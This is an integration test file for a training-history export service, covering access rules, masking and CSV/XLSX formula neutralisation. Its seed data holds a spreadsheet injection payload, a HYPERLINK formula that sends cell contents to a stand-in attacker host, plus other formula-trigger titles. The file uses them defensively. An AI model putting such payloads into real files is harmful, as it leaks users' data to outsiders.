import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DevelopmentForm } from '../../server/src/modules/course/index.js';
import { Role } from '../../server/src/shared/auth/roles.js';
import { yearIn } from '../../server/src/shared/util/time.js';
import type { GraphQLClient } from '../kit/graphql-client.js';
import { startTestApp, type TestApp } from '../kit/test-app.js';

/** Agency exports above this many lines go through the job (the default is 2,000; lowered to test it cheaply). */
const DIRECT_LINES = 5;

let app: TestApp;
beforeAll(async () => {
  app = await startTestApp({ exports: { directLineLimit: DIRECT_LINES, keepDays: 7 } });
});
afterAll(async () => {
  await app?.close();
});

const ENROL = `mutation($runId: ID!) { enrol(runId: $runId) { id } }`;
const COMPLETE = `mutation($id: ID!) { completeEnrolment(id: $id) { id } }`;
const REVOKE = `mutation($id: ID!, $reason: String!) { revokeLearningRecord(id: $id, reason: $reason) { id status } }`;
const REQUEST = `mutation($agencyId: ID!, $year: Int, $format: LearningExportFormat!, $lang: String) {
  requestAgencyLearningExport(agencyId: $agencyId, year: $year, format: $format, lang: $lang) {
    queued lineCount downloadUrl export { id agencyId status lineCount byteSize downloadUrl format year } } }`;
const MINE = `{ myLearningExports(first: 10) { totalCount nodes { id status lineCount byteSize downloadUrl agencyName } } }`;

const thisYear = yearIn(new Date());
const BOM = '\uFEFF';
const HEADERS_ID = ['Nama', 'NIP', 'Nama Kegiatan', 'Jenis Diklat / Bentuk Pengembangan', 'Penyelenggara', 'Tanggal Mulai', 'Tanggal Selesai', 'Jumlah JP', 'Nomor Sertifikat'];
const HEADERS_EN = ['Name', 'NIP', 'Activity', 'Form of development', 'Organiser', 'Start date', 'End date', 'JP', 'Certificate number'];

/** A GET with the client's session cookie (as the browser downloads a file). */
async function download(client: GraphQLClient | null, path: string) {
  const res = await fetch(`${app.url}${path}`, { headers: client?.sessionCookie ? { cookie: client.sessionCookie } : {} });
  const body = Buffer.from(await res.arrayBuffer());
  return { status: res.status, type: res.headers.get('content-type') ?? '', disposition: res.headers.get('content-disposition') ?? '', body };
}

const codeOf = async (path: string, client: GraphQLClient | null) => {
  const res = await download(client, path);
  return res.status === 200 ? 200 : `${res.status} ${JSON.parse(res.body.toString()).errors[0].extensions.code}`;
};

/** RFC 4180 records (quoted fields, doubled quotes, CRLF), written here so the test reads what a spreadsheet would. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { field += '"'; i++; } else if (ch === '"') quoted = false; else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') { record.push(field); field = ''; } else if (ch === '\r' && text[i + 1] === '\n') { record.push(field); records.push(record); record = []; field = ''; i++; } else field += ch;
  }
  if (field || record.length) { record.push(field); records.push(record); }
  return records;
}

async function readXlsx(body: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  return workbook.worksheets[0];
}

/**
 * The seeded person: six course completions in their agency's courses (one owned by a partner), with titles that
 * look like formulas, run on fixed dates; a seventh completion whose ledger line the admin revokes; one certificate
 * revoked by hand (its line stays, with no number); one external activity credited last year.
 */
async function seededPerson() {
  const staff = await app.seed.agencyWithStaff(2);
  const [learner, colleague] = staff.learners;
  const partner = await app.seed.partner({ name: `Universitas Uji ${Math.random().toString(36).slice(2, 7)}` });
  const instructor = await app.seed.person({ partner, roles: [{ role: Role.INSTRUCTOR }] });
  const [{ code }] = await app.sql<{ code: string }>(`select code from agency where id = $1`, [staff.agency.id]);
  const [agency] = await app.sql<{ name: string }>(`select name from agency where id = $1`, [staff.agency.id]);
  const courses = [
    { title: '=HYPERLINK("https://jahat.example/?d="&A1,"Klik")', shown: `'=HYPERLINK("https://jahat.example/?d="&A1,"Klik")`, form: DevelopmentForm.TECHNICAL_TRAINING, formName: 'Pelatihan teknis', jp: 4, organiser: agency.name },
    { title: '+62 812 Pelayanan Publik', shown: `'+62 812 Pelayanan Publik`, form: DevelopmentForm.SEMINAR, formName: 'Seminar/konferensi', jp: 2, organiser: partner.name, byPartner: true },
    { title: '-', shown: `'-`, form: DevelopmentForm.COURSE, formName: 'Kursus', jp: 3, organiser: agency.name },
    { title: '@SUM(1+1)', shown: `'@SUM(1+1)`, form: DevelopmentForm.TECHNICAL_GUIDANCE, formName: 'Bimbingan teknis (bimtek)', jp: 5, organiser: agency.name },
    { title: '\tTab di depan', shown: `'\tTab di depan`, form: DevelopmentForm.E_LEARNING, formName: 'E-learning', jp: 1, organiser: agency.name },
    { title: '\rCR di depan', shown: `'\rCR di depan`, form: DevelopmentForm.MENTORING, formName: 'Mentoring', jp: 2, organiser: agency.name },
    { title: 'Pelatihan yang dibatalkan', shown: 'Pelatihan yang dibatalkan', form: DevelopmentForm.TECHNICAL_TRAINING, formName: 'Pelatihan teknis', jp: 6, organiser: agency.name, revoked: true },
  ];
  const admin = await app.as(staff.admin);
  const teacher = await app.as(instructor);
  const me = await app.as(learner);
  const enrolments: string[] = [];
  for (const c of courses) {
    const course = await app.seed.course({
      title: c.title, form: c.form, jp: c.jp, ...(c.byPartner ? { ownerPartner: partner, instructors: [instructor] } : { ownerAgency: staff.agency }),
    });
    const { enrol } = await me.ok(ENROL, { runId: course.run.id });
    // 08:00 WIB on 2 March to 16:00 WIB on 5 March: the run's dates in its zone.
    await app.sql(`update course_run set starts_at = '2026-03-02T01:00:00Z', ends_at = '2026-03-05T09:00:00Z', time_zone = 'Asia/Jakarta' where id = $1`, [course.run.id]);
    await (c.byPartner ? teacher : admin).ok(COMPLETE, { id: enrol.id });
    enrolments.push(enrol.id);
  }
  const [revokedLine] = await app.sql(`select id from learning_record where source_id = $1`, [enrolments[6]]);
  await admin.ok(REVOKE, { id: revokedLine.id, reason: 'Salah catat' });
  // The third course's certificate is revoked: its line stays, without a number (only a VALID certificate counts).
  await app.sql(`update certificate set status = 'REVOKED', revoked_at = now(), revoked_reason = 'uji' where source_id = $1`, [enrolments[2]]);
  await app.sql(
    `insert into learning_record (person_id, year, minutes, jp, rule_set_id, source, source_id, status, agency_id, title, occurred_at)
     select $1, $3::int, 90, 2, (select id from learning_rule_set order by valid_from limit 1), 'EXTERNAL_ACTIVITY', gen_random_uuid(), 'CREDITED', $2,
            'Seminar tahun lalu', make_timestamptz($3::int, 6, 10, 10, 0, 0, 'Asia/Jakarta')`,
    [learner.id, staff.agency.id, thisYear - 1],
  );
  // A colleague's line: in the team's and the agency's exports, never in the learner's.
  const other = await app.seed.course({ ownerAgency: staff.agency, jp: 7, title: 'Pelatihan Rekan' });
  const { enrol } = await (await app.as(colleague)).ok(ENROL, { runId: other.run.id });
  await admin.ok(COMPLETE, { id: enrol.id });

  // By hand: serials are numbered in the order the completions were issued in this agency, this year.
  const serial = (n: number) => `${code}/${thisYear}/${String(n).padStart(6, '0')}`;
  const expected = courses.slice(0, 6).map((c, i) => [
    learner.fullName, learner.nip!, c.shown, c.formName, c.organiser, '2026-03-02', '2026-03-05', c.jp, i === 2 ? '' : serial(i + 1),
  ]);
  return { staff, learner, colleague, expected, me, admin };
}

describe('a person’s training history in SIASN’s columns', () => {
  it('XLSX: standing lines of the year as computed by hand, NIPs as text cells, formula-looking titles neutralised', async () => {
    const { learner, expected, me } = await seededPerson();
    const res = await download(me, `/files/exports/people/${learner.id}/xlsx?year=${thisYear}`);
    expect(res.status).toBe(200);
    expect(res.type).toContain('spreadsheetml');
    expect(res.disposition).toMatch(/attachment; filename="riwayat-diklat-.*\.xlsx"/);
    const sheet = await readXlsx(res.body);
    const rows: unknown[][] = [];
    sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
    expect(rows[0]).toEqual(HEADERS_ID);
    // An empty cell (no certificate) is no value; XML reads a carriage return back as a line feed.
    const body = rows.slice(1).map((r) => Array.from({ length: 9 }, (_, i) => r[i]).map((v) => (v instanceof Date ? v.toISOString().slice(0, 10) : v ?? '')));
    expect(body).toEqual(expected.map((r) => r.map((v) => (typeof v === 'string' ? v.replace(/\r/g, '\n') : v))));
    for (let r = 2; r <= sheet.rowCount; r++) {
      const nip = sheet.getRow(r).getCell(2);
      expect(nip.type).toBe(ExcelJS.ValueType.String);
      expect(nip.numFmt).toBe('@');
      expect(nip.value).toBe(learner.nip);
      // No cell is a formula.
      sheet.getRow(r).eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
    }

    // Every year: last year's external activity too, first (it happened first).
    const all = await readXlsx((await download(me, `/files/exports/people/${learner.id}/xlsx`)).body);
    expect(all.rowCount).toBe(1 + expected.length + 1);
    expect(all.getRow(2).getCell(3).value).toBe('Seminar tahun lalu');
    expect(all.getRow(2).getCell(8).value).toBe(2);
  });

  it('CSV: UTF-8 with BOM, the same lines, NIPs with the text marker, every formula trigger neutralised; English with lang=en', async () => {
    const { learner, expected, me } = await seededPerson();
    const res = await download(me, `/files/exports/people/${learner.id}/csv?year=${thisYear}`);
    expect(res.status).toBe(200);
    expect(res.type).toBe('text/csv; charset=utf-8');
    const text = res.body.toString('utf8');
    expect(text.startsWith(BOM)).toBe(true);
    const [header, ...records] = parseCsv(text.slice(1));
    expect(header).toEqual(HEADERS_ID);
    expect(records).toEqual(expected.map((r) => r.map((v, i) => (i === 1 ? `'${v}` : String(v)))));
    // No field starts with a formula trigger.
    for (const record of records) for (const field of record) expect(field).not.toMatch(/^[=+\-@\t\r]/);

    const en = parseCsv((await download(me, `/files/exports/people/${learner.id}/csv?year=${thisYear}&lang=en`)).body.toString('utf8').slice(1));
    expect(en[0]).toEqual(HEADERS_EN);
    expect(en[1][3]).toBe('Technical training');
  });
});

describe('who may export what', () => {
  it('the person, their supervisor and their agency’s admins export the person; the supervisor their team; others are refused as the API refuses', async () => {
    const { staff, learner, colleague, expected, me } = await seededPerson();
    const other = await app.seed.agencyWithStaff(1);
    const platform = await app.seed.person({ roles: [{ role: Role.PLATFORM_ADMIN }] });
    const person = `/files/exports/people/${learner.id}/csv?year=${thisYear}`;
    for (const who of [staff.supervisor, staff.admin, platform]) expect(await codeOf(person, await app.as(who))).toBe(200);
    expect(await codeOf(person, me)).toBe(200);
    for (const who of [colleague, other.admin, other.supervisor]) expect(await codeOf(person, await app.as(who))).toBe('404 NOT_FOUND');
    expect(await codeOf(person, null)).toBe('401 UNAUTHENTICATED');
    expect(await codeOf(`/files/exports/people/not-a-uuid/csv`, me)).toBe('404 NOT_FOUND');

    // The team: the supervisor's direct reports, both of them; a learner supervises nobody.
    const team = await download(await app.as(staff.supervisor), `/files/exports/team/csv?year=${thisYear}`);
    const records = parseCsv(team.body.toString('utf8').slice(1)).slice(1);
    expect(records.map((r) => r[0]).sort()).toEqual([...expected.map((e) => e[0] as string), colleague.fullName].sort());
    expect(await codeOf(`/files/exports/team/csv`, me)).toBe('403 FORBIDDEN');

    // The agency: its admins and platform admins; another agency's admin NOT_FOUND, a learner FORBIDDEN.
    const small = await app.seed.agencyWithStaff(1);
    const smallCourse = await app.seed.course({ ownerAgency: small.agency, jp: 3 });
    const { enrol } = await (await app.as(small.learners[0])).ok(ENROL, { runId: smallCourse.run.id });
    await (await app.as(small.admin)).ok(COMPLETE, { id: enrol.id });
    const agency = `/files/exports/agencies/${small.agency.id}/xlsx?year=${thisYear}`;
    expect(await codeOf(agency, await app.as(small.admin))).toBe(200);
    expect(await codeOf(agency, await app.as(platform))).toBe(200);
    expect(await codeOf(agency, await app.as(staff.admin))).toBe('404 NOT_FOUND');
    expect(await codeOf(agency, await app.as(small.learners[0]))).toBe('403 FORBIDDEN');
    expect(await codeOf(`/files/exports/agencies/${small.agency.id}/pdf`, await app.as(small.admin))).toBe('400 BAD_REQUEST');
    const [audit] = await app.sql(`select action from audit_entry where target_id = $1 and action = 'learningExport.download'`, [small.agency.id]);
    expect(audit).toBeTruthy();

    // The mutation refuses alike.
    const req = { agencyId: small.agency.id, format: 'CSV' };
    expect(await (await app.as(staff.admin)).errorCode(REQUEST, req)).toBe('NOT_FOUND');
    expect(await (await app.as(small.learners[0])).errorCode(REQUEST, req)).toBe('FORBIDDEN');
    const direct = (await (await app.as(small.admin)).ok(REQUEST, { ...req, year: thisYear })).requestAgencyLearningExport;
    expect(direct).toEqual({ queued: false, lineCount: 1, downloadUrl: `/files/exports/agencies/${small.agency.id}/csv?year=${thisYear}`, export: null });
  });

  it('an admin of an agency the person left exports only the lines credited there, with the NIP masked', async () => {
    const { staff, learner, expected } = await seededPerson();
    const elsewhere = await app.seed.agencyWithStaff(0);
    await app.sql(`update person set agency_id = $2, org_unit_id = null, supervisor_id = null where id = $1`, [learner.id, elsewhere.agency.id]);
    const course = await app.seed.course({ ownerAgency: elsewhere.agency, jp: 2, title: 'Di instansi baru' });
    const { enrol } = await (await app.as(learner)).ok(ENROL, { runId: course.run.id });
    await (await app.as(elsewhere.admin)).ok(COMPLETE, { id: enrol.id });

    const formerAdmin = await app.as(staff.admin);
    const sheet = await readXlsx((await download(formerAdmin, `/files/exports/people/${learner.id}/xlsx?year=${thisYear}`)).body);
    expect(sheet.rowCount).toBe(1 + expected.length);
    const nip = sheet.getRow(2).getCell(2).value as string;
    expect(nip).not.toBe(learner.nip);
    expect(nip).toBe(`${learner.nip!.slice(0, 4)}${'•'.repeat(11)}${learner.nip!.slice(-3)}`);
    // The new agency's admin sees all of it, NIP in full.
    const now = await readXlsx((await download(await app.as(elsewhere.admin), `/files/exports/people/${learner.id}/xlsx?year=${thisYear}`)).body);
    expect(now.rowCount).toBe(1 + expected.length + 1);
    expect(now.getRow(2).getCell(2).value).toBe(learner.nip);
  });
});

describe('a large agency export', () => {
  it('runs as a job that stores the file and mails its requester a link that downloads it for them only', async () => {
    const { staff } = await seededPerson();
    const adminEmail = `admin-${staff.admin.id.slice(0, 8)}@instansi.test`;
    await app.sql(`update person set email = $2 where id = $1`, [staff.admin.id, adminEmail]);
    const admin = await app.as(staff.admin);
    // Seven standing lines this year: over the direct limit.
    const direct = `/files/exports/agencies/${staff.agency.id}/xlsx?year=${thisYear}`;
    expect(await codeOf(direct, admin)).toBe('409 EXPORT_TOO_LARGE');

    const { requestAgencyLearningExport: req } = await admin.ok(REQUEST, { agencyId: staff.agency.id, year: thisYear, format: 'XLSX' });
    expect(req).toMatchObject({ queued: true, lineCount: 7, downloadUrl: null, export: { status: 'PENDING', agencyId: staff.agency.id, downloadUrl: null } });
    const [audit] = await app.sql(`select data from audit_entry where target_id = $1 and action = 'learningExport.request'`, [req.export.id]);
    expect(audit.data).toMatchObject({ agencyId: staff.agency.id, lineCount: 7 });

    // The job writes the workbook first; on a machine busy with other files (the PDF test renders 500) that can take a while (within the test's 60 s).
    const mail = await app.mail.waitFor((m) => m.to.includes(adminEmail), 40_000);
    const link = /https?:\/\/\S+\/files\/exports\/([0-9a-f-]{36})/.exec(mail.text);
    expect(link?.[1]).toBe(req.export.id);
    expect(mail.subject).toContain('siap diunduh');

    const mine = (await admin.ok(MINE)).myLearningExports;
    expect(mine.nodes[0]).toMatchObject({ id: req.export.id, status: 'READY', lineCount: 7, downloadUrl: `/files/exports/${req.export.id}` });
    const file = await download(admin, `/files/exports/${req.export.id}`);
    expect(file.status).toBe(200);
    expect(file.body.length).toBe(mine.nodes[0].byteSize);
    const sheet = await readXlsx(file.body);
    expect(sheet.rowCount).toBe(1 + 7);
    for (let r = 2; r <= sheet.rowCount; r++) {
      expect(sheet.getRow(r).getCell(2).type).toBe(ExcelJS.ValueType.String);
      expect(sheet.getRow(r).getCell(2).numFmt).toBe('@');
    }
    const titles: unknown[] = [];
    sheet.eachRow((row) => titles.push(row.getCell(3).value));
    expect(titles).toContain(`'=HYPERLINK("https://jahat.example/?d="&A1,"Klik")`);
    expect(titles).toContain('Pelatihan Rekan');

    // Only its requester: another admin of the same agency, the platform admin and the learner get 404.
    const coAdmin = await app.seed.person({ agency: staff.agency, roles: [{ role: Role.AGENCY_ADMIN }] });
    const platform = await app.seed.person({ roles: [{ role: Role.PLATFORM_ADMIN }] });
    for (const who of [coAdmin, platform, staff.learners[0]]) expect(await codeOf(`/files/exports/${req.export.id}`, await app.as(who))).toBe('404 NOT_FOUND');
    expect((await (await app.as(coAdmin)).ok(MINE)).myLearningExports.totalCount).toBe(0);
    // Expired: no longer handed out, and no longer offered.
    await app.sql(`update learning_export set expires_at = now() - interval '1 minute' where id = $1`, [req.export.id]);
    expect(await codeOf(`/files/exports/${req.export.id}`, admin)).toBe('404 NOT_FOUND');
    expect((await admin.ok(MINE)).myLearningExports.nodes[0].downloadUrl).toBeNull();
  });
});
